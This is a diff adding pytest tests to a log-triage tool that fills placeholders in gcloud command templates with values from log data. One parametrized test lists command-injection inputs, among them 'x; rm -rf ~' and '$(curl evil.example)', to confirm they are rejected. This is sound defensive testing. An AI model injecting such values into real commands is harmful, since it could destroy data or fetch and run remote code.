@@ -8,14 +8,15 @@ from urllib.parse import unquote
 import pytest
 
 from triage.drafts import (
-    MARKER_RE, MAX_BODY, DraftContext, Templates, body_digest, escape_cell, escape_html, fence, parse_marker, project_of,
-    render_issue, render_scan_report, title_digest,
+    MARKER_RE, MAX_BODY, DraftContext, Templates, body_digest, escape_cell, escape_html, fence, fill_placeholders,
+    parse_marker, placeholder_values, project_of, render_issue, render_scan_report, title_digest,
 )
 from triage.errors import TriageError
 from triage.incidents import link_incidents
 from triage.logs_link import logs_explorer_url, logs_query
-from triage.model import Rule, Sample, ScanResult, Severity, Window
+from triage.model import Rule, Sample, ScanResult, Severity, Why, Window
 from triage.state import StateStore
+from conftest import FIXTURES
 from cluster_factory import (
     BOOT_FP, HTTP503_FP, ROOT_FP, T0, WINDOW, cascade_clusters, rule_cluster, scan_result, unmatched_cluster,
 )
@@ -600,3 +601,111 @@ def test_logs_query_of_a_request_rule_uses_the_request_fields():
     assert query.splitlines()[-2:] == [
         'logName:"requests"', '((httpRequest.status>=500 AND httpRequest.status<=599) AND httpRequest.latency>="5s")']
     assert "textPayload" not in query
+
+
+# --- placeholders the data answers -----------------------------------------------------------------------------
+
+ATTRIBUTE_RULE = Rule(
+    id="python-missing-attribute", title="Object has no attribute", priority="P1", category="python", match={},
+    fingerprint=("cls", "attr"),
+    five_whys=(
+        Why("ATTR was renamed on the class.",
+            "git log -S 'def ATTR' -- . ; gcloud logging read 'resource.labels.revision_name=\"REV\"' --freshness=1h"),
+        Why("A variable differs in this revision.",
+            "gcloud run revisions describe REV --region REGION --format=yaml | grep SERVICE_URL"),
+        Why("The auth service rejects it.", "gcloud run services describe AUTH_SERVICE --region REGION --project PROJECT"),
+    ),
+    remediation=("Roll back (gcloud run services update-traffic SERVICE --to-revisions GOOD_REVISION=100).",
+                 "Older wording: gcloud run services update-traffic SERVICE --to-revisions REV=100 ; echo $SERVICE"),
+)
+
+
+def _attribute_cluster(**fields):
+    values = dict(rule=ATTRIBUTE_RULE, captures={"cls": "coroutine", "attr": "get"}, services={"netra-backend-staging": 3},
+                  revisions={"netra-backend-staging-00139-mqn": 3}, regions={"us-central1": 3})
+    return dataclasses.replace(unmatched_cluster(), **{**values, **fields})
+
+
+def test_placeholders_take_the_one_value_the_data_gives():
+    assert placeholder_values(_attribute_cluster(), "netra-staging") == {
+        "CLS": "coroutine", "ATTR": "get", "SERVICE": "netra-backend-staging", "REGION": "us-central1",
+        "REV": "netra-backend-staging-00139-mqn", "REVISION": "netra-backend-staging-00139-mqn", "PROJECT": "netra-staging",
+    }
+    several = _attribute_cluster(services={"api": 2, "web": 1}, regions={"us-central1": 2, "europe-west1": 1},
+                                 revisions={"api-00001-abc": 2, "web-00002-def": 1})
+    assert placeholder_values(several, None) == {"CLS": "coroutine", "ATTR": "get"}
+    unknown = _attribute_cluster(services={}, regions={}, revisions={})
+    assert placeholder_values(unknown, None) == {"CLS": "coroutine", "ATTR": "get"}
+
+
+@pytest.mark.parametrize("value", [
+    "x; rm -rf ~", "$(curl evil.example)", "`id`", "-rf", "--project=other", "'quoted'", 'a"b', "a b", "a|b", "a&b",
+    "a>b", "a\nb", "netra_dev\n", "[REDACTED]", "a*b", "_private", "a__b", "a-@team", "@team", "#12", "GH-12",
+    "x" * 101, "", "über",
+])
+def test_an_unsafe_value_leaves_the_placeholder(value):
+    cluster = _attribute_cluster(captures={"attr": value}, services={value: 1}, regions={value: 1}, revisions={value: 1})
+    assert placeholder_values(cluster, value) == {}
+
+
+@pytest.mark.parametrize(
+    "value", ["send_json", "api.services.invoice_export", "runner@proj.iam", "proj:region:db", "x" * 100],
+)
+def test_a_safe_value_is_taken(value):
+    assert placeholder_values(_attribute_cluster(captures={"attr": value}), None)["ATTR"] == value
+
+
+def test_only_whole_words_are_filled_and_never_another_meaning():
+    values = {"SERVICE": "api", "REV": "api-00001-abc", "REVISION": "api-00001-abc", "PORT": "6379", "NAME": "x"}
+    text = ("SERVICE AUTH_SERVICE SERVICES SERVICE_URL MY-SERVICE (SERVICE) 'SERVICE' $PORT PORT "
+            "--to-revisions GOOD_REVISION=100 REV=100 --update-secrets=NAME=SECRET:latest REVISION")
+    assert fill_placeholders(text, values) == (
+        "api AUTH_SERVICE SERVICES SERVICE_URL MY-api (api) 'api' $PORT 6379 "
+        "--to-revisions GOOD_REVISION=100 REV=100 --update-secrets=NAME=SECRET:latest api-00001-abc"
+    )
+
+
+def test_a_known_project_is_given_to_gcloud_logging_and_run_commands_naming_none():
+    text = ("gcloud logging read 'x' --freshness=1h ; gcloud run services describe api --project other | grep a ; "
+            "gcloud redis instances list ; docker run --rm IMAGE ; `gcloud run revisions list --service api`")
+    assert fill_placeholders(text, {"PROJECT": "acme-prod"}) == (
+        "gcloud --project=acme-prod logging read 'x' --freshness=1h ; gcloud run services describe api --project other "
+        "| grep a ; gcloud redis instances list ; docker run --rm IMAGE ; "
+        "`gcloud --project=acme-prod run revisions list --service api`"
+    )
+    assert fill_placeholders(text, {}) == text
+
+
+def test_a_draft_fills_its_checks_and_steps_with_the_values_the_data_gives():
+    body = render_issue(_attribute_cluster(), DraftContext(WINDOW, project="netra-staging")).body
+    assert "- [ ] **Check:** git log -S 'def get' -- . ; gcloud --project=netra-staging logging read " \
+           "'resource.labels.revision_name=\"netra-backend-staging-00139-mqn\"' --freshness=1h" in body
+    assert ("gcloud --project=netra-staging run revisions describe netra-backend-staging-00139-mqn --region us-central1 "
+            "--format=yaml | grep SERVICE_URL") in body
+    assert "gcloud run services describe AUTH_SERVICE --region us-central1 --project netra-staging" in body
+    assert "_Hypothesis:_ get was renamed on the class." in body
+    assert ("Roll back (gcloud --project=netra-staging run services update-traffic netra-backend-staging "
+            "--to-revisions GOOD_REVISION=100).") in body
+    assert "update-traffic netra-backend-staging --to-revisions REV=100 ; echo $SERVICE" in body
+    assert "| Captured | cls=coroutine, attr=get |" in body  # the evidence stays as it was
+
+
+def test_the_generic_scaffold_is_filled_too_and_several_services_keep_their_placeholder():
+    body = render_issue(dataclasses.replace(_attribute_cluster(), rule=None), DraftContext(WINDOW, project="acme")).body
+    assert "`gcloud --project=acme run revisions list --service netra-backend-staging --region us-central1`" in body
+    assert "`gcloud --project=acme run revisions describe netra-backend-staging-00139-mqn --region us-central1 " in body
+    assert "update-traffic netra-backend-staging --to-revisions GOOD_REVISION=100`" in body
+    several = dataclasses.replace(_attribute_cluster(services={"api": 2, "web": 1}, regions={}), rule=None)
+    body = render_issue(several, DraftContext(WINDOW)).body
+    assert "`gcloud run revisions list --service SERVICE --region REGION`" in body
+    assert "`gcloud run services update-traffic SERVICE --to-revisions GOOD_REVISION=100`" in body
+
+
+def test_a_scan_draft_names_the_region_of_its_entries(cli, tmp_path):
+    state = tmp_path / "state"
+    assert cli("scan", "-s", FIXTURES / "sample.json", "--state-dir", state).exit_code == 0
+    # redis-dns-resolution and python-module-not-found, each of one service, revision and region
+    result = cli("draft", "671b7d3753", "2c0aedd5c3", "--state-dir", state)
+    assert result.exit_code == 0, result.stderr
+    assert "gcloud --project=acme-staging run services describe api-backend --region us-central1 --format=" in result.stdout
+    assert "grep -rn \"import api.services.invoice_export\" ." in result.stdout
